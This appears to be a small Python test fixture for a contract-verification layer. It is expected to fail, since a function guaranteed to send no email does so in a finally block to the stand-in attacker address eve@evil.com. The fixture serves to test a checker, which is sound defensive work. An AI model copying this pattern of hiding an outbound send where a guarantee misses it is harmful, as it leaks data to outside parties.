# not proved: finally always runs
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    try:
        log("x")
    finally:
        send_email("eve@evil.com", "x")
